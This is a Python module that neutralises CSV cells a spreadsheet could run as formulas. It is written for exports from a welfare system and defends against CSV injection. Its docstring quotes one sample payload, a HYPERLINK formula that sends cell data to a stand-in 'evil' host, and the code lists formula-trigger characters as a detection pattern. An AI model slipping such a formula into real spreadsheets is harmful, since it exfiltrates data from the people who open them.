"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV injection).

Excel, LibreOffice Calc and Google Sheets evaluate a cell whose first character is ``=``,
``+``, ``-`` or ``@`` (and treat a leading tab, carriage return or NUL the same way), so a
consultation summary like ``=HYPERLINK("http://evil/?"&A1)`` typed by anyone becomes a live
formula on the machine of the official who opens the 행복e음 export. Following OWASP's CSV
injection guidance, such a cell gets a leading single quote, which spreadsheets take as
"this is text". Some imports trim leading blanks (LibreOffice's "trim spaces") or take a
leading quote mark as a text delimiter, so a trigger after those counts too. Separators and
double quotes inside a cell are the CSV writer's business: it quotes them, so no cell can
start a new one.

Only text is neutralised. Numbers and dates the program itself writes stay numbers (a
negative amount must remain ``-2``, not the text ``'-2``); text that comes from people is
never trusted, even when it looks like a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date, time
from decimal import Decimal
from typing import Any, Protocol

# OWASP's list plus NUL (ASVS 5, 1.2.10); the full-width forms, conservatively, because
# spreadsheets in East Asian locales may normalise them to their ASCII counterparts.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\x00＝＋－＠")
# Characters spreadsheets skip before deciding whether a cell is a formula.
_LEADING_NOISE = " \t\r\n\u00a0\u3000\"'"

Cell = str | int | float | Decimal | date | time | None


def neutralise(cell: str) -> str:
    """``cell`` with a leading ``'`` if a spreadsheet could read it as a formula."""
    if not cell:
        return cell
    if cell[0] in FORMULA_TRIGGERS or cell.lstrip(_LEADING_NOISE)[:1] in FORMULA_TRIGGERS:
        return "'" + cell
    return cell


def safe_cell(cell: Cell) -> Any:
    """Text neutralised; numbers, dates and empty cells as the program wrote them."""
    if isinstance(cell, str):
        return neutralise(cell)
    return cell


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class FormulaSafeWriter:
    """A ``csv.writer`` whose every text cell goes through :func:`neutralise`."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer: _Writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Cell]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Cell]]) -> None:
        for row in rows:
            self.writerow(row)
